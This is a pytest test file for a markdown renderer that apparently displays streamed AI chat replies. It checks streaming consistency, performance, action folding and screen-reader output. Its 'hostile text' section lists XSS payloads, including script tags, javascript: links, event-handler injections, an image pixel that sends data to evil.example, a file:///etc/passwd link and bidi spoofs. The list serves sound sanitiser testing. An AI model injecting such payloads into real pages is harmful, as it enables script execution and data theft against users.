"What is said reaches the page whole, the same however it came, and with nothing in it that a model could press or load."
import random, re, time
from html.parser import HTMLParser
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from conftest import busy
from pianola import piano, render

quick = settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck))

# a page small enough to check by: what the parser makes of HTML, and the one rule by which the browser adds plain text to it

void = {'br', 'hr'}
class Node:
    def __init__(self, tag='', attrs=()): self.tag, self.attrs, self.kids = tag, dict(attrs), []
    def put(self, text):
        if text and self.kids and isinstance(self.kids[-1], str): self.kids[-1] += text
        elif text: self.kids.append(text)
    def same(self): return (self.tag, self.attrs, [k if isinstance(k, str) else k.same() for k in self.kids])
    def text(self): return ''.join(k if isinstance(k, str) else '\n' if k.tag == 'br' else k.text() for k in self.kids)
    def all(self):
        for k in self.kids:
            if isinstance(k, Node):
                yield k
                yield from k.all()

class Reader(HTMLParser):
    "Strict: every element that is opened is closed, in order"
    def __init__(self): super().__init__(convert_charrefs=True); self.root = Node(); self.open = [self.root]
    def handle_starttag(self, tag, attrs):
        assert len(attrs) == len(dict(attrs))
        n = Node(tag, attrs)
        self.open[-1].kids.append(n)
        if tag not in void: self.open.append(n)
    def handle_endtag(self, tag): assert self.open.pop().tag == tag
    def handle_data(self, data): self.open[-1].put(data)
    def handle_comment(self, data): raise AssertionError(f'a comment: {data}')
    handle_decl = handle_pi = unknown_decl = handle_comment

def tree(html):
    r = Reader()
    r.feed(html)
    r.close()
    assert r.open == [r.root], 'something is left open'
    return r.root

def add(root, text):
    "What the browser does with `append` (the same rule stands in static/reply.js)"
    n = root
    while (kids := [k for k in n.kids if isinstance(k, Node)]) and (re.fullmatch('p|h[1-6]|ul|ol|li|blockquote|figure|pre', kids[-1].tag)
            or (n.tag, kids[-1].tag) == ('pre', 'code') or kids[-1].attrs.get('class') == 'key half'):
        n = kids[-1]
    n.put(text)

class Page:
    "A tab that looks at a growing reply"
    def __init__(self, dear=None):
        self.b, self.done, self.tail = render.Blocks(), [], tree('')
        if dear is not None: self.b.dear = dear
    def take(self, text):
        self.b.feed(text)
        before = list(self.done)
        f = self.b.frame()
        self.done += f.finished
        assert self.b.done == self.done and self.done[:len(before)] == before
        if f.append is None: self.tail = tree(f.tail)
        else:
            assert not f.finished
            add(self.tail, f.append)
        if self.b.exact: assert self.tail.same() == tree(self.b.tail()).same()
        return f
    def end(self, cut=False):
        self.done += self.b.end(cut).finished
        assert self.b.tail() == ''
        return self.done

# however it came

corpus = ['', '\n', ' ', '# a\nb\n\nc', 'a\n===\nb\n---\nc', '#hashtag\n# heading #\n## x ##', '- a\n- b\n\n  c\n- d\ne\nf',
          '1. a\n2. b\n   - c\n\n     d\n3) e', '- a\n+ b\n* c\n-\n\n-x', '* * *\n***\n**b** c\n**Bold** start',
    '> a\nb\n\n> c\n> - d\ne', '```\na\n```\nb', '```py\nx = 1\n\n\n``\n```` \nafter', '~~~~ md\n```\n~~~\n~~~~\nx', '``` a`b\nc',
    '```js\nopen {', '   ```\n    x\n ```\ny', '- ```py\n  x\n\ny', '- a\n  ```\n  b\n  ```\n  c and more\n\nd', '- # a\n  text and more',
    '- > a\n\n- b\n  > c\n\n  d e',
    'a|b\n-|-\n1|2\nx\n\ny', 'foo\na|b\n-|-\n1|2', 'a|b\n-|-x\ny', '| a | b |\n|:-|-:|\n| `|` | **c** |\n', '    code\n\n    more\n\nx',
    'a  \nb\\\nc\n\n\td', '*a **b* c**', '**a\nb**\n\n_c_d_ __e__ ~~f~~', '`a` ``b` `` `c',
    '[a](http://b.c "t") [d](e) [f] (g) ![h](http://i.j/k.png) [![l](http://m.n/o)](http://p.q)',
    'see http://a.b/c_d_e, or https://x.y/(z). http://', '<http://a.b> <c@d.ee> <script>alert(1)</script> <!-- x',
    '&amp; &lt;b&gt; &#x202e; &copy; &nope; &',
    '\\*a\\* \\`b\\` \\', 'a\r\nb\r\rc\r', 'a\0b\x1b[31mc', 'שלום **עולם** \u202eabc\u202c \u200bd', '你好**世界**。好',
    '{"action": "tasks.create", "args": {"name": "x"}}\n\ndone', '```json\n[{"action": "a.b"}, {"action": "c.d"}]\n```\nx',
    '{\n  "action": "a.b",\n  "args": {}\n}', '[{"a": 1}]', '{"action": "a.b"}\n{"actual": 1}',
    '{"action": "a.b", "args": {\n"x": "y z\n\nand',
    '{"action": "a.b"', '{"act', '{\n\nx', '{\n  "operation" : "a.b",\n\t"args": {"n": [1, {"m": 2}]} }',
    '```json\n\n  {"action": "a.b",\n"args": {}}\n{"act\n```',
    '```\n{"action": "a.b"}\n\n[{"action": "c.d"}, {"action": "e.f"',
    '  ```json\n  {"action": "a.b"} x\n  ```', '```json\n[\n {"name": 1}]\n```',
    '[\n{"action": "a.b"},\n{"act',
    '{"action": "a.b", "args": {"t": "' + 'word, and more of it ' * 20 + '"}}\nx',
    "{'action': 'a } b'}", '{"action": "jump", "x": {}}\n\n{"actions": [{"action": "a.b"}]}',
    '> ' * 30 + 'deep\n\nout', '- ' * 30 + 'deep',
    ''.join('  ' * i + '- a\n' for i in range(14)) + '\nout', '[x]: http://a.b\n\n[x] [y][x]',
    '- [x] a\n- [ ] b\n- [x]\n- [y] c', 'a\u00a0\n\u00a0b\u2003 \n', '\ud800 a', 'e *f*\u2028 (g', '# b # 1', '# |y\n-|-\nz',
    '```a|b\n-|-\nx', '* [x] 1. ', '{"action": "a.b"}\xa0a', 
    'a\n\n\n\n\nb', '1986. A great year\n1. x', 'Text\n- a\n- b\nText', '+ a\n\n\n+ b', '***a** b*', 'Hello *wor',
    'x\n\n---\n\ny\n', '\ta\n\tb\nc', '\n\n  lead', '***', '* a\n *b*', '-\n  a', '- a\n -b\n  - c\n   - d\n    - e', '>\n> a\n>\n\n>b',
    'www.a.bc a@b.cc a.py']

def streamed(text, cuts, dear=None):
    page, last = Page(dear), 0
    for c in [*sorted(cuts), len(text)]:
        page.take(text[last:c])
        last = c
    return page.end()

@pytest.mark.parametrize('text', corpus)
def test_a_reply_is_the_same_letter_by_letter_in_two_pieces_and_at_once(text):
    whole = render.blocks(text)
    assert streamed(text, range(len(text))) == whole
    for cut in range(len(text)+1): assert streamed(text, [cut]) == whole
    assert streamed(text, range(len(text)), dear=8) == whole

@pytest.mark.parametrize('n', range(4))
def test_two_replies_of_the_corpus_after_one_another_in_random_pieces(n):
    r = random.Random(n)
    for _ in range(60):
        text = '\n'.join(r.sample(corpus, 3))
        assert streamed(text, [r.randrange(len(text)+1) for _ in range(r.randrange(30))]) == render.blocks(text)

bits = st.sampled_from(['a', 'word ', 'B', ' ', '  ', '\n', '\n', '\n\n', '- ', '* ', '+ ', '1. ', '2) ', '> ', '#', '# ', '```',
                        '```py\n', '```\n', '~~~', '``', '`', '|', ' | ', '-|-\n', '---', '===', '**', '*', '_', '__', '~~', '[', '](',
                        '](http://a.b', ')',
    '![', 'http://c.d/', ':', '    ', '\t', '<', '>', '<b>', '&', '&amp;', ';', '\\', '\r', '\r\n', '\0', '\u202e', '\u00a0', '\u2028',
    '{"action": "a.b"}', '{"act', 'ion": ', '```json\n', '{', '}', '"', '[x] ', 'é', '好', '🎹', 'שלום', '.', '!', '(', '1'])
soup = st.lists(bits, max_size=40).map(''.join)

@quick
@given(soup, st.lists(st.integers(0, 120), max_size=40), st.sampled_from([None, None, 0, 30]))
def test_however_a_reply_is_cut_its_blocks_only_grow_and_end_as_in_history(text, cuts, dear):
    assert streamed(text, [c for c in cuts if c < len(text)], dear) == render.blocks(text)

@quick
@given(soup)
def test_any_text_at_any_point_is_whole_and_harmless(text):
    page = Page()
    for c in text:
        page.take(c)
        harmless(page.b.tail())
    for b in page.end(): harmless(b)

@quick
@given(st.lists(st.text(st.characters(exclude_characters='\r\0', exclude_categories=['Cc', 'Cf', 'Cs', 'Co']), max_size=30), max_size=12))
def test_code_is_shown_letter_for_letter(lines):
    code = '\n'.join(l for l in lines if not l.startswith('~'))
    for lang in ('', 'python', 'js', 'nonesuch', 'json', 'diff'):
        (block,) = render.blocks(f'~~~~~ {lang}\n{code}\n~~~~~')
        assert next(n for n in tree(block).all() if n.tag == 'code').text() == code + '\n'

def test_what_we_take_for_space_is_what_the_grammar_takes_for_it():
    from markdown_it.common.utils import MD_TRIM_CHARS
    assert set(render.space) == set(MD_TRIM_CHARS)

def test_a_line_whose_end_is_not_here_finishes_nothing():
    page = Page()
    page.take('Hello\n#')
    assert page.done == []
    page.take('hashtag\n')
    assert page.done == [] and 'Hello<br>#hashtag' in page.b.tail()

def test_each_line_of_an_open_fence_and_each_word_of_a_paragraph_is_sent_once():
    page, sent = Page(), 0
    page.take('Look:\n\n```python\n')
    for i in range(3000):
        f = page.take(f'x{i} = "{i}"\n')
        assert f.append is not None
        sent += len(f.append)
    assert sent == sum(len(f'x{i} = "{i}"\n') for i in range(3000))
    assert page.take('``').append == '' and page.take('`').append == ''
    f = page.take('\n')
    assert len(f.finished) == 1 and f.tail == ''
    page.take('Some')
    assert [page.take(w).append for w in (' words', ' and', ' ', 'more.')] == [' words', ' and', '', ' more.']
    assert page.take(' *').append is None

def test_code_is_plain_while_it_grows_and_coloured_when_it_closes():
    page = Page()
    page.take('```python\nimport this\n')
    assert 'class="hl"' not in page.b.tail()
    assert 'class="hl"' in page.take('```\n').finished[0]

@pytest.mark.parametrize('name, text, step',
                         [('one fence', '```py\n' + 'x = [1, 2, "three"]\n' * 3_000, 40),
                          ('one paragraph', 'a *b* `c` word, and **more** of it. ' * 1_000, 40),
                          ('one list', '- **item**: `code` and words\n' * 800, 40),
    ('one table', '| a | b |\n|---|---|\n' + '| **cell** | `code` |\n' * 800, 40), ('lines', 'a *b*\n' * 3_000, 40),
    ('blank lines in an indented fence', ' ```\n' + 'a\n\n' * 5_000, 40)])
def test_a_very_long_block_stays_cheap(name, text, step):
    "A second as many characters must cost about twice as much, not four times"
    def cost(text):
        b, t = render.Blocks(), time.thread_time()
        for i in range(0, len(text), step):
            b.feed(text[i:i+step])
            b.frame()
        assert b.end() and b.done == render.blocks(text)
        return time.thread_time() - t
    def tried():
        render._inline.cache_clear()
        return cost(text[:len(text)//2]), cost(text)
    tries = []
    while len(tries) < 4 and not (tries and tries[-1][1] < 3.2*tries[-1][0] + .1): tries.append(tried())
    assert tries[-1][1] < 3.2*tries[-1][0] + .1, tries            # each time: a busy machine alone does not fail it

def test_after_a_very_long_block_the_next_one_is_drawn_as_it_comes():
    page = Page()
    page.take('- item\n' * 2_000)
    page.take('- more *\n')
    assert not page.b.exact
    for c in '\nNow **this** is new.\n\n# And th*is*': page.take(c)
    assert page.b.exact and page.tail.same() == tree('<h1>And th<em>is</em></h1>').same()

# hostile text

allowed = {'p': (), 'br': (), 'hr': (), 'em': (), 'strong': (), 's': (), 'code': ('class',), 'pre': ('tabindex',),
           'a': ('class', 'href', 'title', 'target', 'rel'), 'ul': (), 'ol': ('start',), 'li': ('class',), 'blockquote': (),
           'table': (), 'thead': (), 'tbody': (), 'tr': (), 'th': ('class',), 'td': ('class',), 'h1': (), 'h2': (), 'h3': (), 'h4': (),
           'h5': (), 'h6': (), 'figure': ('class',), 'figcaption': (), 'span': ('class',),
           'button': ('type', 'class', 'aria-label'), 'div': ('class', 'tabindex', 'role', 'aria-label'), 'details': ('class',), 'summary': ()}
values = {'class': {'out', 'out img-link', 'task', 'left', 'center', 'right', 'code', 'hl', 'lang', 'copy', 'table', 'key', 'key half',
                    *'cktfdbavnseixh'}, 'target': {'_blank'}, 'rel': {'noopener noreferrer nofollow'}, 'type': {'button'},
                    'tabindex': {'0'}, 'role': {'region'},
          'aria-label': {'Copy code', 'Table'}}

def harmless(html):
    "Only our elements, only our attributes with our values, only web and mail addresses, no link within a link, buttons only in our figures"
    root = tree(html)
    for n in root.all():
        assert n.tag in allowed, n.tag
        for k, v in n.attrs.items():
            assert k in allowed[n.tag], (n.tag, k)
            assert k not in values or v in values[k], (k, v)
            if k == 'href':
                assert (re.match(r'https?://[^/]|mailto:.', v) and v == n.attrs['title'] and n.attrs['rel']
                        and n.attrs['target'] == '_blank' and n.text())
            if k == 'start': assert v.isdigit()
        if n.tag == 'a': assert not any(m.tag == 'a' for m in n.all())
        if n.tag == 'figure':
            assert ([k.tag for k in n.kids] == ['figcaption', 'pre'] and [k.tag for k in n.kids[0].kids] == ['span', 'button']
                    and n.kids[0].kids[1].text() == 'Copy')
    assert sum(n.tag == 'button' for n in root.all()) == sum(n.tag == 'figure' for n in root.all())
    assert not re.search('[\x01-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]', html)
    return root

xss = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
       '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe srcdoc="<script>alert(1)</script>">', '<a href="javascript:alert(1)">x</a>',
    '<form action=/api/roll/1/undo method=post><button>Approve</button></form>', '<style>*{display:none}</style>',
    '<link rel=stylesheet href=//evil.example>', '<base href=//evil.example>',
    '<div id="app" hx-swap-oob="true">owned</div>',
    '<div hx-get="/x" hx-trigger="load" hx-on:click="alert(1)" data-hx-post="/y" hx-vals="js:alert(1)" ws-send x-data="{}" _="on load '
    'alert(1)">x</div>',
    '<button class="approve" data-approval="1">Approve</button>', '<details class="key"><summary>tasks.create</summary></details>',
    '<figure class="code"><button class="copy">Copy</button></figure>', '<pre></pre>', '<table>', '</div></div></main>', '<!--', ']]>',
    '<p style="position:fixed">',
    '![" onerror="alert(1)](http://x/"onerror="alert(1))', '![x](http://x/y.png "\\" onerror=\\"alert(1)")',
    '[x](http://a.b "\\" onclick=\\"alert(1)")', '[x](<http://a.b/"onmouseover="alert(1)>)', '![pixel](https://evil.example/?q=secret)',
    '[![pixel](https://evil.example/a.png)](https://evil.example/b)',
    '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\nscript:alert(1))', '[x](java&#x0A;script:alert(1))',
    '[x](&#106;avascript:alert(1))', '[x](\x01javascript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox)', '[x](file:///etc/passwd)', '<javascript:alert(1)>',
    '<data:text/html;base64,PHN2Zz4=>', '[x](//evil.example)', '[x](/api/roll/1/undo)', '[x](#app)', '[x](http:/a)', '[x](http:///a)',
    '[x](https://)', '![x](data:image/svg+xml;base64,PHN2Zz4=)', '![x](/static/a.png)', '[](http://evil.example)',
    '[\u200b](http://evil.example)', '[ ](http://evil.example)',
    '[a <http://b.c> d](http://e.f)', '[http://bank.example](http://evil.example)', 'http://a.b/"><img src=x>',
    'http://a.b/\'onclick=\'alert(1)', '<http://a.b/"><script>>', '``` "><script>alert(1)</script>\nx\n```',
    '```python onclick=alert(1)\nx = "</code></pre><script>alert(1)</script>"\n```', '```html\n<script>alert(1)</script>\n```',
    '~~~ <b>\n</figure><button>\n~~~', '```"\n', '| <b> | [x](javascript:1) |\n|-|-|\n| <img src=x onerror=1> | `<i>` |',
    '{"action": "<img src=x onerror=alert(1)>.x"}',
    '{"action": "tasks.create", "args": {"name": "</code></pre><script>alert(1)</script>"}}', '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;',
    '\u202etxt.exe\u202c', 'a\u2066b\u2069 \u200bz\u2060\ufeff', '`\u202e`', '\x1b[2J\x1b]0;owned\x07', '[x](http://a.b/\u202egpj.exe)',
    '# <h1 id=nav>', '- <li onclick=1>', '> <blockquote hx-get=/>', '1. [x] <input>', '- [x] <input type=checkbox>',
    '$$\\href{javascript:alert(1)}{x}$$', '```mermaid\ngraph TD;click A javascript:alert(1)\n```',
    '<x' + ' a' * 500, '<' * 500, '[' * 500 + '](x)', '![' * 300, '*' * 999, '`' * 999 + 'a', '&' * 500, '\\' * 501, '|' * 300,
    '> ' * 300 + 'x', '- ' * 300 + 'x']

@pytest.mark.parametrize('text', xss)
def test_hostile_text_is_shown_and_does_nothing(text):
    for t in (text, f'a {text} b', f'- {text}', f'> {text}', f'**{text}**', f'[{text}](http://a.b)', f'![{text}](http://a.b)',
              f'| {text} |\n|-|\n| {text} |', f'```\n{text}\n```', f'``` {text}\n'):
        for b in render.blocks(t): harmless(b)
        page = Page()
        step = 1 if len(t) < 120 else 29
        for i in range(0, len(t), step):
            page.take(t[i:i+step])
            harmless(page.b.tail())
        for b in page.end(): harmless(b)

def test_an_image_is_a_link_and_nothing_loads_by_itself():
    (b,) = render.blocks('![A cat](https://evil.example/cat.png?q=secret)')
    (a,) = [n for n in harmless(b).all() if n.tag == 'a']
    assert (a.attrs['class'] == 'out img-link' and a.text() == 'A cat'
            and a.attrs['title'] == a.attrs['href'] == 'https://evil.example/cat.png?q=secret')
    assert 'src' not in b

def test_an_address_that_leads_elsewhere_than_the_web_stays_text():
    for u in ('javascript:alert(1)', '/api/roll/1/undo', '//evil.example', 'data:text/html,x'):
        assert render.blocks(f'[x]({u})') == [f'<p>[x]({u})</p>']

def test_the_models_copy_button_is_text():
    (b,) = render.blocks('<button type="button" class="copy" aria-label="Copy code">Copy</button>')
    assert not [n for n in tree(b).all() if n.tag == 'button'] and 'Copy' in b

def test_words_that_turn_the_line_around_or_hide_in_it_are_left_out():
    assert render.blocks('a\u202eb\u200bc&#x202e;d') == ['<p>abcd</p>']
    assert render.blocks('x\x1b[31m') == ['<p>x␛[31m</p>']
    assert '\u200d' in render.blocks('👩\u200d💻')[0] and '\u200f' in render.blocks('א\u200f')[0]

# what it looks like

def test_blocks_of_every_kind():
    got = render.blocks('# T\n\na\nb ~~c~~\n\n1. x\n\n3. y\n\n---\n\n|a|b|\n|:-:|-|\n|1|2|\n\n7. z\n\n- [x] done\n- [ ] open')
    assert got == ['<h1>T</h1>', '<p>a<br>b <s>c</s></p>', '<ol><li><p>x</p></li><li><p>y</p></li></ol>', '<hr>',
        '<div class="table" tabindex="0" role="region" aria-label="Table"><table><thead><tr><th '
        'class="center">a</th><th>b</th></tr></thead><tbody><tr><td class="center">1</td><td>2</td></tr></tbody></table></div>',
        '<ol start="7"><li>z</li></ol>', '<ul><li class="task">☑ done</li><li class="task">☐ open</li></ul>']

def test_a_block_of_actions_is_folded_and_prose_with_one_is_not():
    a = '{"action": "tasks.create", "args": {"name": "Buy milk"}}'
    for text in (a, f'```json\n{a}\n```', f'```\n{a}\n```', f'[{a}, {a}]', "{'action': 'tasks.create', 'name': 'x',}"):
        (b,) = render.blocks(text)
        assert b.startswith('<details class="key"><summary>tasks.create') and '<figure class="code">' in b
    for text in (f'Sure: {a}', f'```python\n{a}\n```', f'> {a}', '{"a": 1}', '{', '{"act', '{"action": "jump"}'):
        assert not any('<details' in b for b in render.blocks(text))

def test_what_is_folded_is_what_is_pressed():
    for text in corpus + xss:
        folded = [n.text() for b in render.blocks(text) for n in tree(b).all() if n.tag == 'summary' and n.text() != 'unfinished action']
        names = [name for f in folded for name in f.split(', ') if not name.endswith(' (not pressed)')]
        pressed = [f.name for f in piano.actions(text) if not f.error]
        assert names == pressed[:len(names)]

def test_a_bracket_in_single_quotes_ends_nothing():
    text = "{'action': 'tasks.create', 'name': 'a } b'}"
    (found,) = piano.actions(text)
    assert found.end == len(text) and 'guessing' in found.error
    (b,) = render.blocks(text)
    assert b.startswith('<details class="key"><summary>an action (not pressed)</summary>')

def seen(text): return [n.text() for b in (text if isinstance(text, list) else [text]) for n in tree(b).all() if n.tag in ('summary', 'p')]

@pytest.mark.parametrize('before, action, after', [
    ('', '{"action": "tasks.create", "args": {"name": "Feed the fish"}}', ''), ('', '{\n  "action" : "a.b",\n  "args": {}\n}', ''),
    ('', '[{"action": "a.b"},\n {"action": "a.c"}]', ''),
    ('```json\n', '{"action": "a.b", "args": {"n": 1}}', '\n```'), ('```\n', ' {\n"operation": "a.b"}', '\n```\n')])
def test_an_action_is_folded_from_its_first_letter_on(before, action, after):
    page = Page()
    for n, c in enumerate(text := 'Sure.\n\n' + before + action + after):
        page.take(c)
        now = action[:n+1-len('Sure.\n\n' + before)].strip() if n+1 > len('Sure.\n\n' + before) else ''
        tail = tree(page.b.tail())
        if now in ('', '['): assert n < len('Sure.\n\n') or tail.text() in ('', '[', '`', '``'), 'nothing is shown that goes again'
        elif folded := [k for k in tail.kids if k.tag == 'details']:
            (fold,), words = folded, [x for x in folded[0].all() if x.tag == 'code'][0].text()
            assert tail.kids == [fold] and words.strip() == now[:len(words.strip())], 'what is written so far stands in the fold'
        else: assert page.done[-1].startswith('<details class="key">')
    assert page.end() == render.blocks(text) and page.done[-1].startswith('<details class="key"><summary>')
    for n in range(2 + action.index('{'), len(action)):              # stopped there
        (fold,) = render.blocks(before + action[:n], cut=True)
        words = [x for x in tree(fold).all() if x.tag == 'code'][0].text()
        assert fold.startswith('<details class="key"><summary>unfinished action') and words.strip() == action[:n].strip()
        page = Page()
        page.take(before + action[:n])
        assert page.end(cut=True) == [fold]

@pytest.mark.parametrize('text', [
    '{"active": 1}', '{"a": 1}', '{action}', '{}', '{ x', '[{"name": 1}]', '{"action": "jump"}', '{"action": "a.b"} and so on'])
def test_what_turns_out_to_be_no_action_appears(text):
    for whole in (text, f'```json\n{text}\n```'):
        page = Page()
        for c in whole: page.take(c)
        assert text in tree(page.b.tail()).text() and '<details' not in page.b.tail()
        assert '<details' not in page.end()[-1]

def test_an_action_that_grows_is_sent_once_and_its_fold_is_not_drawn_again():
    for before in ('', '```json\n'):
        page, sent = Page(), ''
        page.take(before + '{"action": "a.b", "args": {"text": "')
        for n in range(60): sent += page.take(f'word {n},\n   ' if n % 9 == 8 else f'word {n}, ').append
        assert sent.split() == [w for n in range(60) for w in ('word', f'{n},')] and page.b.tail().count('<details') == 1

def test_a_very_long_action_stays_cheap_and_one_too_long_to_be_one_is_shown():
    page = Page()
    page.take('```json\n{"action": "a.b", "args": {"text": "')
    for _ in range(400): page.take('word ' * 10)
    assert '<details' not in page.b.tail() and page.b.tail().count('word') == 4_000

def test_colour_gives_up_on_code_that_would_take_too_long():
    render._coloured.cache_clear()
    t = time.thread_time()
    assert 'class="hl"' not in render.figure('a ' * 9_000, 'java')
    assert time.thread_time() - t < 1*busy()
    assert 'class="hl"' not in render.figure('x = 1\n' * 4_000, 'python') and 'class="hl"' in render.figure('x = 1\n' * 300, 'python')

# as words

def test_plain_words_of_a_reply_in_one_line():
    assert render.plain('# Plan\n\n- **Buy** `milk` [here](http://a.b)\n\n```py\nx\n```\n') == 'Plan Buy milk here code block'
    assert render.plain('{"action": "tasks.create", "args": {}}') == 'tasks.create'
    assert (render.plain('One two three four', 12) == 'One two…' and render.plain('x' * 50, 10) == 'x' * 9 + '…'
            and render.plain('short', 10) == 'short')

@quick
@given(soup, st.integers(1, 60))
def test_plain_words_are_one_line_and_never_longer_than_asked(text, n): assert len(s := render.plain(text, n)) <= n and '\n' not in s

def heard(text, cuts):
    out, at, last = [], 0, 0
    for c in [*sorted(cuts), len(text)]:
        said, at = render.sentences(text[:c], at)
        assert last <= at <= c
        out, last = out + said, at
    said, at = render.sentences(text + '\n\n', at)
    return out + said

def test_a_screen_reader_hears_sentences():
    text = 'Sure! Here is **the plan**, e.g. for Dr. Smith. It costs 3.50 today.\n\n1. Buy milk\n2. Call\n\n```python\nx. y! z?\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n{"action": "tasks.create",\n "args": {"name": "x. y"}}\nDone'
    want = ['Sure!', 'Here is the plan, e.g. for Dr. Smith.', 'It costs 3.50 today.', '1. Buy milk', '2. Call', 'Code block.', 'a, b',
            '1, 2', 'tasks.create', 'Done']
    assert heard(text, []) == want
    for cut in range(len(text)): assert heard(text, [cut]) == want
    assert heard(text, range(len(text))) == want

def test_nothing_is_heard_before_it_is_finished():
    assert render.sentences('Hello wor', 0) == ([], 0)
    assert render.sentences('Hello. Wor', 0) == (['Hello.'], 7)
    assert render.sentences('```py\nx = 1.\n', 0) == ([], 0)
    # a year ends a sentence, a day or a place in a list does not
    assert render.sentences('It was built in 1999. Then', 0) == (['It was built in 1999.'], 22)
    assert render.sentences('12. Mai, also spring', 0) == render.sentences('On the 12. Mai, also spring', 0) == ([], 0)

@quick
@given(soup, st.lists(st.integers(0, 120), max_size=20))
def test_a_screen_reader_hears_everything_once_however_it_came(text, cuts): assert heard(text, [c for c in cuts if c < len(text)]) == heard(text, [])
